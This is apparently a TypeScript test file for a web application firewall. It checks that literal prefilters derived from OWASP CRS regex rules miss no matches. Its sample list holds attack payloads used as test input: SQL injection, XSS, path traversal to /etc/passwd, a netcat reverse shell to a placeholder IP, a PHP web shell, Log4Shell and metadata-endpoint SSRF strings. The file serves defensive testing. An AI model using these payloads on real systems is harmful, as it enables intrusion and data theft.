import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { ordinaryRequests } from '../../test/fixtures/waf-corpus.js';
import { compileSecRegex, relaxPcre, UnsupportedRule } from './operators.js';
import { requiredLiterals } from './prefilter.js';
import { parseOperator, splitDirectives } from './seclang.js';
import { TRANSFORMS } from './transforms.js';

test('required literals of simple shapes', () => {
  assert.deepEqual(requiredLiterals('(?i)union\\s+select'), ['union']);
  assert.deepEqual(requiredLiterals('abc|de')?.sort(), ['abc', 'de']);
  assert.deepEqual(requiredLiterals('(?:on(?:load|error))=')?.sort(), ['onerror=', 'onload=']);
  assert.deepEqual(requiredLiterals('a[bc]d')?.sort(), ['abd', 'acd']);
  assert.deepEqual(requiredLiterals('x?yz')?.sort(), ['xyz', 'yz']);
  assert.equal(requiredLiterals('.*'), undefined);
  assert.equal(requiredLiterals('a|.*'), undefined);
  assert.equal(requiredLiterals('(?x) a b'), undefined, 'extended mode');
  assert.deepEqual(requiredLiterals('\\Qa.b\\E+'), ['a.b']);
});

/** Values that exercise the CRS patterns: attacks of every family and ordinary request parts. */
function samples(): string[] {
  const attacks = [
    "1' or '1'='1", '1 union select 1,2,3--', "' and sleep(5)#", 'select * from users where id=1', "admin'--", '1;drop table x',
    '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'javascript:alert(1)', '<svg/onload=alert(1)>', '<a href="vbscript:x">',
    '../../etc/passwd', '..\\..\\boot.ini', '/proc/self/environ', 'php://filter/resource=index.php', 'file:///etc/passwd',
    ';cat /etc/passwd', '|id', '$(whoami)', '`ls -la`', '; nc -e /bin/sh 1.2.3.4 80', 'powershell -enc abc', 'cmd.exe /c dir',
    '<?php system($_GET["c"]); ?>', 'eval(base64_decode("x"))', '${jndi:ldap://x/a}', 'java.lang.Runtime.getRuntime().exec("id")',
    'require("child_process").exec("id")', '{"__proto__":{"x":1}}', 'O:8:"stdClass":0:{}', 'http://169.254.169.254/latest/meta-data',
    'Content-Type: text/html', '() { :; }; echo vulnerable', '%00', 'expression(alert(1))', '@@version', 'information_schema.tables',
    'waitfor delay \'0:0:5\'', 'benchmark(1000000,md5(1))', '<!ENTITY xxe SYSTEM "file:///etc/passwd">', 'sessionid=abc;jsessionid=x',
  ];
  const out = new Set<string>(attacks);
  for (const r of ordinaryRequests(300)) {
    out.add(r.path);
    for (const v of Object.values(r.headers)) out.add(v);
    if (r.body !== undefined) out.add(r.body);
  }
  const decoded = [...out].map((v) => TRANSFORMS.lowercase!(TRANSFORMS.urldecodeuni!(v)));
  return [...out, ...decoded, ...[...out].map((v) => v.toUpperCase())];
}

test('over the CRS patterns, every value RE2 matches contains one of the required literals', {
  skip: existsSync('/usr/share/modsecurity-crs/rules') ? false : 'no CRS at /usr/share/modsecurity-crs',
}, () => {
  const dir = '/usr/share/modsecurity-crs/rules';
  const values = samples();
  let checked = 0;
  let filtered = 0;
  let matches = 0;
  for (const file of readdirSync(dir).filter((f) => f.endsWith('.conf'))) {
    for (const d of splitDirectives(readFileSync(join(dir, file), 'latin1'), file)) {
      if (d.name !== 'SecRule' || d.args[1] === undefined) continue;
      const op = parseOperator(d.args[1]);
      if (op.name !== 'rx') continue;
      let re;
      try {
        re = compileSecRegex(op.arg, d.source);
      } catch (err) {
        if (err instanceof UnsupportedRule) continue;
        throw err;
      }
      checked++;
      const literals = requiredLiterals(relaxPcre(op.arg));
      if (literals === undefined) continue;
      filtered++;
      for (const v of values) {
        if (!re.test(v)) continue;
        matches++;
        const lower = v.toLowerCase();
        assert.ok(literals.some((l) => lower.includes(l)), `${d.source}: '${v}' matches but holds none of ${JSON.stringify(literals)}`);
      }
    }
  }
  console.log(`${filtered} of ${checked} CRS @rx patterns have a literal prefilter; ${matches} matches checked`);
  assert.ok(filtered > checked / 2);
  assert.ok(matches > 100);
});
